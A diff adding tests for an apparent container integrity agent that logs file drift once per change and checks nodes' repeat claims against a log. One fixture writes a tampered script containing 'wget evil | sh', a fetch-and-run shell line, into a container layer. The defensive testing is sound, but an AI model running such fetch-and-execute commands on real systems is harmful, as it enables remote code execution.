@@ -23,7 +23,7 @@ from control_helpers import Cli, assert_fails, entries_since, log_size
 from cryptography.hazmat.primitives.asymmetric import ec
 from jwcrypto import jwk
 
-from trustplane.agent.runtime import RuntimeIntegrity, image_layer_dirs
+from trustplane.agent.runtime import ContainerCheck, RuntimeIntegrity, image_layer_dirs
 from trustplane.agent.service import Agent, AgentConfig
 from trustplane.client import ControlClient
 from trustplane.control.identity import make_node_assertion
@@ -237,6 +237,93 @@ def test_drift_stops_the_container_when_the_policy_says_so(
     assert entry["action"] == "stop"
     assert entry["missing"] == ["/app/conf"]
     assert (base_layer / "bin" / "busybox").exists()  # the shared base was left alone
+
+
+def test_a_reported_drift_is_logged_once_per_change(
+    image: str,
+    docker_client: docker.DockerClient,
+    docker_daemon: DockerDaemon,
+    plane: RunningControlPlane,
+    admin: ControlClient,
+    node_key: tuple[str, Path],
+    tmp_path: Path,
+) -> None:
+    """A drift the policy only reports is found again every round; it is logged once,
+    again when what was found changes, and again when the policy's answer changes."""
+    set_stop_on_drift(plane, None)
+    container = run(docker_client, image)
+    app_layer = layer_dir(docker_client, container.id, 1)
+    (app_layer / "app" / "run.sh").write_bytes(b"#!/bin/sh\nwget evil | sh\n")
+    name, key = node_key
+    agent = Agent(
+        AgentConfig(
+            server_url=plane.url,
+            tcti="unused:runtime-only",
+            node=name,
+            node_key=key,
+            state_dir=tmp_path / "agent",
+            ca_file=plane.ca_file,
+            docker_url=docker_daemon.base_url,
+        )
+    )
+
+    def mine(results: list[ContainerCheck]) -> ContainerCheck:
+        return next(r for r in results if r.container == container.id)
+
+    start = log_size(plane)
+    first = [mine(agent.runtime_round()) for _ in range(4)]
+    assert [r.status for r in first] == ["drift"] * 4
+    assert [r.action for r in first] == ["keep"] * 4
+    assert [r.repeated for r in first] == [False, True, True, True]
+    [entry] = drift_entries(admin, start)
+    assert {r.log_index for r in first} == {entry["index"]}
+    assert entry["changed"] == ["/app/run.sh"]
+
+    # Another file changes: what is found is new, so it is logged once more.
+    (app_layer / "app" / "conf").write_bytes(b"tampered")
+    second = [mine(agent.runtime_round()) for _ in range(3)]
+    assert [r.repeated for r in second] == [False, True, True]
+    entries = drift_entries(admin, start)
+    assert len(entries) == 2
+    assert entries[1]["changed"] == ["/app/conf", "/app/run.sh"]
+    assert {r.log_index for r in second} == {entries[1]["index"]}
+
+    # The policy now stops such containers: the same drift gets a new answer, logged.
+    set_stop_on_drift(plane, "true")
+    try:
+        stopped = mine(agent.runtime_round())
+    finally:
+        set_stop_on_drift(plane, None)
+    assert (stopped.action, stopped.stopped, stopped.repeated) == ("stop", True, False)
+    entries = drift_entries(admin, start)
+    assert [e["action"] for e in entries] == ["keep", "keep", "stop"]
+    container.reload()
+    assert container.status == "exited"
+
+
+def test_a_repeat_claim_is_checked_against_the_log(
+    node: ControlClient, admin: ControlClient, plane: RunningControlPlane
+) -> None:
+    """A node that says "the same as entry N" is believed only when entry N is its own
+    runtime.drift with exactly this content; otherwise the report is logged."""
+    fingerprint = "1" * 64
+    start = log_size(plane)
+    first = node.report_drift({**DRIFT, "fingerprint": fingerprint})
+    same = node.report_drift({**DRIFT, "fingerprint": fingerprint, "repeat_of": first["log_index"]})
+    assert (same["log_index"], same["repeated"]) == (first["log_index"], True)
+    assert log_size(plane) == start + 1
+    # Another content under the same claim, another container, a claim naming an entry
+    # of another kind: each is logged as new.
+    other = {"changed": ["/app/conf"], "fingerprint": "2" * 64}
+    for change in (
+        other,
+        {"container": "cd" * 32, "fingerprint": fingerprint},
+        {"fingerprint": fingerprint, "repeat_of": start - 1},
+    ):
+        answer = node.report_drift({**DRIFT, "repeat_of": first["log_index"], **change})
+        assert answer["repeated"] is False
+        assert answer["log_index"] > first["log_index"]
+    assert len(drift_entries(admin, start)) == 4
 
 
 def test_the_agent_command_re_measures_and_reports(
